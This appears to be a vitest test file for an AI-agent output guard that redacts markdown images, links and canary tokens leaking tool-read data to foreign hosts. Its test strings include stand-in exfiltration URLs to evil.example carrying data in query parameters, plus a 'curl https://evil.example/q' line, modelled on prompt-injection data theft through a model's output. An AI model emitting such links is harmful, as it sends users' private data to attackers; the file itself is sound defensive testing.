import { describe, expect, it } from 'vitest';
import type { Verdict } from '../../../src/index.js';
import { type Analyzer, createGuard, type GuardEvent, type GuardOptions, type Run } from '../../../src/policy/index.js';
import { leaksIn } from '../../../src/policy/run/output/leaks.js';
import { emptyRun } from '../../../src/policy/run/run-state.js';
import { expectLinear } from '../../expect-linear.js';

const allowed: Verdict = {
  ...{ verdict: 'allow', confidence: 0, score: 0, threshold: 0.8, rule: 'none', reason: null, decided_by: 'ml' },
  ...{ rules_version: '1.0.0+0', ml_version: 'test', ml_threshold: 0.8, mode: 'hybrid', latency_ms: 0 },
  evidence_id: 'ev_000000000000000000000000',
};
/** Doubts what says `dubious`. */
const analyzer: Analyzer = {
  async analyze(input) {
    return String(input).includes('dubious') ? { ...allowed, score: 0.6, confidence: 0.6 } : allowed;
  },
};
const MAIL = 'From anna@acme.example: all pictures are at https://evil.example/p?d=TEXT, and https://evil.example/q.';

async function started(options: GuardOptions = {}, data = MAIL): Promise<{ run: Run; events: GuardEvent[] }> {
  const events: GuardEvent[] = [];
  const guard = createGuard({ engine: analyzer, report: (event) => events.push(event), ...options });
  const run = guard.run({ canaries: ['blue-otter-7731'] });
  await run.screen('user', 'Summarise my mail. My site is https://mine.example.');
  await run.screen('tool_result', data, { tool: 'read_mail' });
  events.length = 0;
  return { run, events };
}
const shown = (value: unknown): string => String(value).replace(/\[removed by portcullis: [^\]]*\]/g, '[…]');

describe('output', () => {
  const rows: readonly (readonly [string, string, string])[] = [
    ['an image of a host in data', '![c](https://evil.example/p?d=Friday)', '![c]([…])'],
    ['an image as it stood in data', '![c](https://evil.example/q)', '![c]([…])'],
    ['a link with something else than in data', 'See [c](https://evil.example/p?d=Friday).', 'See [c]([…]).'],
    ['a link as it stood in data', 'See [c](https://evil.example/q).', 'See [c](https://evil.example/q).'],
    ['a link to a host of nobody', 'See [c](https://docs.example/q?x=1).', 'See [c](https://docs.example/q?x=1).'],
    ['a value to a host of nobody', 'See [c](https://docs.example/q?x=anna@acme.example).', 'See [c]([…]).'],
    [
      'a value to a host of the user',
      '![c](https://mine.example/q?x=anna@acme.example)',
      '![c](https://mine.example/q?x=anna@acme.example)',
    ],
    [
      'a value to a name below it',
      '![c](https://img.mine.example/q?x=anna@acme.example)',
      '![c](https://img.mine.example/q?x=anna@acme.example)',
    ],
    ['a value in an image without slashes', '![c](https:docs.example/q?x=anna@acme.example)', '![c]([…])'],
    [
      'a value in relative links behind a base',
      '<base href="//docs.example/"> ![c](anna@acme.example) [c](q?x=anna@acme.example)',
      '<base href="//docs.example/"> ![c]([…]) [c]([…])',
    ],
    ['a canary', 'The word is blue-otter-7731.', 'The word is […].'],
    ['a canary spelled out', 'It is B L U E o t t e r 7 7 3 1, twice: Blue Otter 7731', 'It is […], twice: […]'],
    ['letters of a canary in other words', 'A subblue otter 77311', 'A subblue otter 77311'],
    ['a canary in a link to the user', '[c](https://mine.example/?d=Blue.Otter.7731)', '[c]([…])'],
    [
      'all of them',
      '<https://evil.example/1> <https://docs.example> <https://evil.example/2>',
      '<[…]> <https://docs.example> <[…]>',
    ],
  ];
  it.each(rows)('%s', async (_, text, expected) => {
    const { run } = await started();
    const decision = await run.screen('output', text);
    expect(shown(decision.value)).toBe(expected);
  });

  it('says where and why, and never the value', async () => {
    const { run, events } = await started();
    const decision = await run.screen('output', 'Here: ![c](https://evil.example/p?d=Friday)');
    expect(decision).toMatchObject({
      action: 'redact',
      enforcement: {
        ...{ point: 'output', cause: 'output', rule: 'output.foreign-host' },
        leaks: [
          { rule: 'output.foreign-host', form: 'image', span: { start: 11, end: 42 }, source: { tool: 'read_mail' } },
        ],
      },
    });
    expect(events).toHaveLength(1);
    expect(events[0]).toMatchObject({
      point: 'output',
      action: 'redact',
      cause: 'output',
      verdict: 'allow',
      score: null,
    });
    expect(JSON.stringify([decision.enforcement, events])).not.toMatch(/evil|Friday/);
  });

  it('reports what it does not cut, and cuts it where `flow.foreign` is stricter', async () => {
    const quoted = 'See https://evil.example/q.';
    const { run, events } = await started();
    expect(await run.screen('output', quoted)).toMatchObject({ action: 'report', value: quoted });
    expect(events.map(({ action }) => action)).toEqual(['report']);
    const strict = await started({ on: { flow: { foreign: 'ask' } } });
    expect((await strict.run.screen('output', quoted)).action).toBe('redact');
  });

  it('cuts a link of a suspicious passage, in code too', async () => {
    const { run } = await started({}, `${MAIL} dubious`);
    const decision = await run.screen('output', 'Run `curl https://evil.example/q`.');
    expect(shown(decision.value)).toBe('Run `curl […]`.');
  });

  it('cuts what leads to a suspicious host below one of the user', async () => {
    const { run } = await started({}, 'dubious: https://x.mine.example/q');
    const shows = async (url: string) => shown((await run.screen('output', `![c](${url})`)).value);
    expect(await shows('https://x.mine.example/p?d=Friday')).toBe('![c]([…])');
    expect(await shows('https://a.x.mine.example/p?d=Friday')).toBe('![c]([…])');
    expect(await shows('https://y.mine.example/p')).toBe('![c](https://y.mine.example/p)');
    await run.screen('user', 'Show x.mine.example.');
    expect(await shows('https://x.mine.example/p')).toBe('![c](https://x.mine.example/p)');
    const named = await started({ on: { flow: { trusted: ['mine.example'] } } }, 'dubious: https://x.mine.example/q');
    expect((await named.run.screen('output', '![c](https://x.mine.example/p)')).action).toBe('allow');
  });

  it('does what the policy says', async () => {
    const text = '![c](https://evil.example/p?d=Friday)';
    const actions = ['redact', 'deny', 'report', 'off'] as const;
    const done = await Promise.all(
      actions.map(async (output) => (await (await started({ on: { output } })).run.screen('output', text)).action),
    );
    expect(done).toEqual(['redact', 'deny', 'report', 'allow']);
  });

  it('trusts the tools and domains that the policy names', async () => {
    for (const trusted of ['read_mail', 'evil.example']) {
      const { run } = await started({ on: { flow: { trusted: [trusted] } } });
      expect((await run.screen('output', '![c](https://evil.example/p?d=Friday)')).action).toBe('allow');
    }
  });

  it('reads every string of a value', async () => {
    const { run } = await started();
    const value = { answer: 'ok', parts: [{ type: 'text', text: '![c](https://evil.example/p?d=Friday)' }] };
    expect(await run.screen('output', value)).toMatchObject({
      value: { answer: 'ok', parts: [{ type: 'text', text: expect.stringMatching(/^!\[c\]\(\[removed/) }] },
    });
  });

  it('looks for nothing outside of a run', async () => {
    const guard = createGuard({ engine: analyzer });
    expect((await guard.screen('output', '![c](https://evil.example/p?d=Friday)')).action).toBe('allow');
  });

  it('is linear in the repetitions of a canary', () => {
    const leaks = (text: string) => leaksIn(emptyRun(1), text, { trusted: [] }, ['blue-otter-7731']);
    expect(leaks('blue-otter-7731 '.repeat(50))).toHaveLength(50);
    expectLinear('blue-otter-7731 ', 160_000, leaks);
  }, 60_000);

  it('refuses a canary that stands in any text', () => {
    const run = createGuard({ engine: analyzer }).run();
    expect(() => run.canary('abc-123')).toThrow(RangeError);
  });
});
